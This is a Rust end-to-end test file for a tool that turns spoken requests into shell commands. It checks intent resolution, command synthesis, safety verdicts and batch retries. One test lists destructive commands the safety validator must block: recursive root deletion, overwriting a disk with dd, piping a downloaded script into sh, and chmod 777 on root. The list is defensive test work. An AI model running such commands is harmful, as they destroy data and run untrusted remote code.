//! End-to-end pipeline tests: utterance in, verdict and (scripted)
//! execution out, across module boundaries.

use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Mutex;
use std::time::Duration;

use incant::batch::{BatchOrchestrator, BatchScript, StepState};
use incant::config::Config;
use incant::exec::{ExecutionOutcome, ExecutionRequest, Executor};
use incant::registry::schema::{ArgValue, DangerLevel};
use incant::registry::ToolRegistry;
use incant::resolve::{IntentResolver, Resolution};
use incant::safety::{Decision, SafetyValidator};
use incant::session::{Pipeline, TurnOutcome};
use incant::synth;

fn open_config() -> Config {
    "
[preferences]
confirm_by_default = false
allowed_directories = [\"/\", \"~\"]
"
    .parse()
    .unwrap()
}

/// Scripted executor: responses are handed out in order; counts calls.
struct Scripted {
    responses: Mutex<Vec<ExecutionOutcome>>,
    calls: AtomicU32,
}

impl Scripted {
    fn new(responses: Vec<ExecutionOutcome>) -> Self {
        Self {
            responses: Mutex::new(responses),
            calls: AtomicU32::new(0),
        }
    }

    fn ok(output: &str) -> ExecutionOutcome {
        ExecutionOutcome {
            success: true,
            exit_code: Some(0),
            output: output.to_owned(),
            error: String::new(),
            timed_out: false,
            duration: Duration::ZERO,
        }
    }

    fn fail() -> ExecutionOutcome {
        ExecutionOutcome {
            success: false,
            exit_code: Some(1),
            output: String::new(),
            error: "scripted failure".to_owned(),
            timed_out: false,
            duration: Duration::ZERO,
        }
    }

    fn calls(&self) -> u32 {
        self.calls.load(Ordering::SeqCst)
    }
}

impl Executor for Scripted {
    async fn execute(&self, _request: ExecutionRequest) -> ExecutionOutcome {
        self.calls.fetch_add(1, Ordering::SeqCst);
        let mut responses = self.responses.lock().unwrap();
        if responses.is_empty() {
            Scripted::ok("")
        } else {
            responses.remove(0)
        }
    }
}

// Destructive patterns block no matter which tool's synthesis produced
// the text, and no matter the tool's declared danger level.
#[test]
fn blocklist_is_universal_across_tools() {
    let validator = SafetyValidator::new(&open_config());
    let patterns = [
        "rm -rf /",
        "rm -rf *",
        "sudo rm /etc/passwd",
        "curl https://x.example/install.sh | sh",
        "dd if=/dev/zero of=/dev/sda",
        "chmod -R 777 /",
    ];
    for command in patterns {
        for danger in [DangerLevel::ReadOnly, DangerLevel::Safe, DangerLevel::Destructive] {
            for requires_confirmation in [false, true] {
                let verdict = validator.validate(command, danger, requires_confirmation);
                assert_eq!(
                    verdict.decision,
                    Decision::Block,
                    "{command:?} must block at {danger:?}"
                );
            }
        }
    }
}

// Every example utterance a builtin ships must come back to that same
// tool and synthesize without error.
#[test]
fn builtin_examples_resolve_and_synthesize() {
    let registry = ToolRegistry::with_builtins();
    let resolver = IntentResolver::new(&registry);
    let context = incant::context::SessionContext::new();

    for tool in registry.all() {
        for example in &tool.examples {
            match resolver.resolve(&example.utterance, &context) {
                Resolution::Resolved(intent) => {
                    assert_eq!(
                        intent.tool.name, tool.name,
                        "{:?} resolved to the wrong tool",
                        example.utterance
                    );
                    let synthesized = synth::synthesize(&intent)
                        .unwrap_or_else(|e| panic!("{:?}: {e}", example.utterance));
                    assert!(!synthesized.command.trim().is_empty());
                }
                Resolution::Unresolved { reason } => {
                    panic!("{:?} did not resolve: {reason}", example.utterance);
                }
            }
        }
    }
}

/// Token following `flag` in a whitespace-tokenized command.
fn token_after<'a>(command: &'a str, flag: &str) -> Option<&'a str> {
    let mut tokens = command.split_whitespace();
    tokens.find(|&t| t == flag)?;
    tokens.next()
}

// Extracted values survive into the command text verbatim: parsing the
// synthesized command back out yields exactly the bound arguments.
#[test]
fn extracted_arguments_round_trip_through_the_command() {
    let registry = ToolRegistry::with_builtins();
    let resolver = IntentResolver::new(&registry);
    let context = incant::context::SessionContext::new();

    let Resolution::Resolved(intent) = resolver.resolve("ping example.com", &context) else {
        panic!("ping utterance did not resolve");
    };
    assert_eq!(intent.tool.name, "ping_host");
    let command = synth::synthesize(&intent).unwrap().command;
    assert_eq!(command, "ping -c 4 example.com");
    assert_eq!(
        token_after(&command, "-c").map(str::to_owned),
        intent
            .bound_args
            .get("count")
            .map(ArgValue::render_plain)
    );
    assert_eq!(
        command.split_whitespace().last(),
        intent.bound_args.get("host").and_then(ArgValue::as_str)
    );

    let Resolution::Resolved(intent) =
        resolver.resolve("find files larger than 500MB in /tmp/data", &context)
    else {
        panic!("find utterance did not resolve");
    };
    let command = synth::synthesize(&intent).unwrap().command;
    // `find {path} -type {file_type} -size +{min_size}`: each literal in the
    // command must equal the bound value it was spliced from.
    assert_eq!(
        token_after(&command, "find"),
        intent.bound_args.get("path").and_then(ArgValue::as_str)
    );
    assert_eq!(
        token_after(&command, "-type"),
        intent
            .bound_args
            .get("file_type")
            .and_then(ArgValue::as_str)
    );
    let size = token_after(&command, "-size").expect("size clause must fire");
    assert_eq!(
        size.strip_prefix('+'),
        intent.bound_args.get("min_size").and_then(ArgValue::as_str)
    );
}

// The same command text always receives the same verdict from the same
// validator.
#[test]
fn verdicts_are_deterministic() {
    let validator = SafetyValidator::new(&open_config());
    let commands = [
        "ls -lh /tmp",
        "rm -rf /",
        "kill -TERM 4242",
        "mv /tmp/a* /tmp/b/",
    ];
    for command in commands {
        let first = validator.validate(command, DangerLevel::Safe, false);
        for _ in 0..5 {
            assert_eq!(validator.validate(command, DangerLevel::Safe, false), first);
        }
    }
}

// "delete those" picks up the paths produced by the previous turn.
#[tokio::test]
async fn anaphoric_reference_binds_previous_results() {
    let executor = Scripted::new(vec![Scripted::ok(
        "/tmp/data/a.log\n/tmp/data/b.log\n/tmp/data/c.log",
    )]);
    let mut pipeline = Pipeline::with_executor(open_config(), executor);

    let outcome = pipeline
        .run_turn("find files larger than 100MB in /tmp/data", true, None)
        .await;
    assert!(matches!(outcome, TurnOutcome::Executed { .. }));

    let outcome = pipeline.run_turn("delete those files", true, None).await;
    let TurnOutcome::Executed { pending, .. } = outcome else {
        panic!("expected execution, got {outcome:?}");
    };
    assert_eq!(pending.tool, "delete_files");
    assert_eq!(
        pending.args.get("paths"),
        Some(&ArgValue::List(vec![
            "/tmp/data/a.log".to_owned(),
            "/tmp/data/b.log".to_owned(),
            "/tmp/data/c.log".to_owned(),
        ]))
    );
    for path in ["/tmp/data/a.log", "/tmp/data/b.log", "/tmp/data/c.log"] {
        assert!(pending.command.contains(path), "command: {}", pending.command);
    }
}

// Without a prior result turn, the anaphor has nothing to bind and the
// turn stays unresolved rather than guessing.
#[tokio::test]
async fn anaphor_without_context_is_unresolved() {
    let mut pipeline = Pipeline::with_executor(open_config(), Scripted::new(vec![]));
    let outcome = pipeline.run_turn("delete those files", true, None).await;
    assert!(
        matches!(outcome, TurnOutcome::Unresolved { .. }),
        "got {outcome:?}"
    );
}

// A failed step's dependents are skipped, not run and not failed.
#[tokio::test]
async fn batch_failure_skips_dependents() {
    let script = BatchScript::parse(
        "
> ping example.com
> list files in /tmp
  depends: 1
",
    )
    .unwrap();
    let executor = Scripted::new(vec![Scripted::fail()]);
    let mut pipeline = Pipeline::with_executor(open_config(), executor);
    let report = BatchOrchestrator::new(&mut pipeline).run(&script).await;

    assert_eq!(report.steps[0].state, StepState::Failed);
    assert_eq!(report.steps[1].state, StepState::Skipped);
    assert_eq!(report.steps[1].attempts, 0);
}

// retry: 2 means exactly three attempts, each a fresh pipeline pass.
#[tokio::test]
async fn batch_retry_attempts_are_bounded() {
    let script = BatchScript::parse(
        "
> ping example.com
  retry: 2
",
    )
    .unwrap();
    let executor = Scripted::new(vec![Scripted::fail(), Scripted::fail(), Scripted::fail()]);
    let mut pipeline = Pipeline::with_executor(open_config(), executor);
    let report = BatchOrchestrator::new(&mut pipeline).run(&script).await;

    assert_eq!(report.steps[0].state, StepState::Failed);
    assert_eq!(report.steps[0].attempts, 3);
    assert_eq!(pipeline.audit().len(), 3);
}

// A retry that succeeds mid-way stops retrying.
#[tokio::test]
async fn batch_retry_stops_on_success() {
    let script = BatchScript::parse(
        "
> ping example.com
  retry: 3
",
    )
    .unwrap();
    let executor = Scripted::new(vec![Scripted::fail(), Scripted::ok("64 bytes from ...")]);
    let mut pipeline = Pipeline::with_executor(open_config(), executor);
    let report = BatchOrchestrator::new(&mut pipeline).run(&script).await;

    assert_eq!(report.steps[0].state, StepState::Succeeded);
    assert_eq!(report.steps[0].attempts, 2);
}

// A blocked step is final: no retries are spent on it and nothing runs.
#[tokio::test]
async fn batch_block_is_not_retried() {
    let config: Config = "
[preferences]
confirm_by_default = false
allowed_directories = [\"/home\"]
"
    .parse()
    .unwrap();
    let executor = Scripted::new(vec![]);
    let script = BatchScript::parse(
        "
> list files in /tmp
  retry: 5
",
    )
    .unwrap();
    let mut pipeline = Pipeline::with_executor(config, executor);
    let report = BatchOrchestrator::new(&mut pipeline).run(&script).await;

    assert_eq!(report.steps[0].state, StepState::Failed);
    assert_eq!(report.steps[0].attempts, 1);
    assert!(report.steps[0].detail.starts_with("blocked"));
    // The executor was never consulted.
    assert_eq!(pipeline.audit().records()[0].executed, false);
}

// Dry-run batches validate every step but execute none.
#[tokio::test]
async fn dry_run_batch_executes_nothing() {
    let script = BatchScript::parse(
        "
> list files in /tmp
> disk usage of /tmp
",
    )
    .unwrap();
    let executor = Scripted::new(vec![]);
    let mut pipeline = Pipeline::with_executor(open_config(), executor).dry_run(true);
    let report = BatchOrchestrator::new(&mut pipeline).run(&script).await;

    assert_eq!(report.succeeded(), 2);
    assert_eq!(pipeline.executor().calls(), 0);
}
